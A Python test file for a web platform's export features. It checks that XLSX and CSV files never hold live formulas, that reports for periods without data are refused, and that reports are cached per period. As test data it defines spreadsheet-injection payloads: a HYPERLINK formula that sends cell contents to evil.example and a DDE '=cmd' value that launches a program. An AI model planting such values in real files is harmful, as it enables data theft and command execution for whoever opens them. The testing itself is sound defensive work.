"""Every XLSX (and CSV) the platform writes holds data, never a formula, whatever users put in names and values;
reports are refused for periods without data and cached per period, not per spelling of it."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from tests.web.conftest import copy_store, login

from seimon.access.demo_accounts import DemoAccount
from seimon.demo import generate_demo
from seimon.ingest.quarantine import write_table
from seimon.store import open_store
from seimon.web import Settings, create_app

API = "/api/v1"
EVIL_NAME = '=HYPERLINK("http://evil.example/"&A1,"点击")'
EVIL_VALUE = "=cmd|' /C calc'!A0"


def formula_problems(data: bytes, label: str) -> list[str]:
    """Every formula in an XLSX: ``<f>`` elements in its sheets, or cells openpyxl reads as formulas."""
    problems = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(member)):
                problems.append(f"{label}: {member} holds a formula")
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            problems.extend(f"{label}: {sheet.title}!{c.coordinate} = {c.value!r}" for c in row if c.data_type == "f")
    return problems


@pytest.fixture(scope="module")
def evil(demo_store_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """The demo store with every enterprise named like a formula."""
    url = copy_store(demo_store_file, tmp_path_factory.mktemp("evil"))
    with open_store(url) as store:
        store.execute("UPDATE enterprises SET name = ? || credit_code", (EVIL_NAME,))
    client = TestClient(create_app(Settings(store=url)))
    client.__enter__()
    yield client
    client.__exit__(None, None, None)


def test_no_xlsx_the_platform_writes_holds_a_formula(
    evil: TestClient, accounts: dict[str, DemoAccount], tmp_path: Path
) -> None:
    headers = login(evil, accounts["admin"])
    written: dict[str, bytes] = {}
    internal = evil.get(API + "/reports/bulletin?period=2020-09&format=xlsx&edition=internal", headers=headers)
    assert internal.status_code == 200, internal.text
    written["internal bulletin"] = internal.content
    book = load_workbook(io.BytesIO(internal.content))
    names = [c.value for s in book.worksheets for r in s.iter_rows() for c in r if str(c.value).startswith("=HYPER")]
    assert names, "the internal bulletin lists the enterprises by name (the case under test)"
    evaluation = evil.get(API + "/reports/evaluation?as_of=2021-06-30&format=xlsx", headers=headers)
    assert evaluation.status_code == 200, evaluation.text
    written["evaluation"] = evaluation.content

    header = "credit_code,period,revenue,value_added,value_added_prior,profit,rd_expenditure,employees\n"
    bad = header + f'91130100MA0000001X,2020年1-9月,"{EVIL_VALUE}",@SUM(A1),-3,+4,1,10\n'
    created = evil.post(
        API + "/submissions", headers=headers, data={"kind": "reports"}, files={"file": ("bad.csv", bad.encode())}
    )
    assert created.status_code == 200, created.text
    report = evil.get(f"{API}/submissions/{created.json()['id']}/report.xlsx", headers=headers)
    assert report.status_code == 200
    assert EVIL_VALUE in [c.value for r in load_workbook(io.BytesIO(report.content)).active.iter_rows() for c in r]
    written["submission error report"] = report.content

    table = write_table(tmp_path / "q.xlsx", ["名称", "值"], [[EVIL_NAME, EVIL_VALUE], ["甲", -3]])
    written["quarantine export"] = table.read_bytes()
    demo = tmp_path / "demo"
    generate_demo(demo, enterprises=50, years=(2020, 2020), seed=2)
    for path in sorted(demo.glob("*.xlsx")):
        written[f"demo {path.name}"] = path.read_bytes()

    problems = [p for label, data in written.items() for p in formula_problems(data, label)]
    assert problems == []


def test_csv_exports_put_an_apostrophe_before_a_formula_and_leave_numbers_alone(tmp_path: Path) -> None:
    path = write_table(tmp_path / "q.csv", ["名称", "值", "数"], [[EVIL_NAME, "@SUM(A1)", "-3.5"], ["\tx", "+1", 2]])
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert rows[1:] == [["'" + EVIL_NAME, "'@SUM(A1)", "-3.5"], ["'\tx", "+1", "2"]]


def test_reports_for_a_period_without_data_are_refused_at_once(
    evil: TestClient, accounts: dict[str, DemoAccount]
) -> None:
    headers = login(evil, accounts["evaluator"])
    started = time.monotonic()
    response = evil.get(API + "/reports/bulletin?period=2099-09&format=pdf", headers=headers)
    assert response.status_code == 404, response.text
    assert response.json()["error"]["code"] == "no_data" and "2099" in response.json()["error"]["message_zh"]
    assert time.monotonic() - started < 5, "refused before anything is rendered"


def test_one_period_spelt_two_ways_is_rendered_once(evil: TestClient, accounts: dict[str, DemoAccount]) -> None:
    headers = login(evil, accounts["evaluator"])
    cache = evil.app.state.seimon.cache  # type: ignore[attr-defined]

    def bulletins() -> list[object]:
        return [k for k in cache._items if k[0][0] == "bulletin"]

    first = evil.get(API + "/reports/bulletin?period=2020-09&format=html&lang=en", headers=headers)
    kept = bulletins()
    second = evil.get(API + "/reports/bulletin?period=2020年1-9月&format=html&lang=en", headers=headers)
    assert first.status_code == second.status_code == 200
    assert bulletins() == kept, "the second spelling found the first one's entry"
    assert second.headers["content-disposition"] == 'attachment; filename="bulletin-2020-09-public-en.html"'
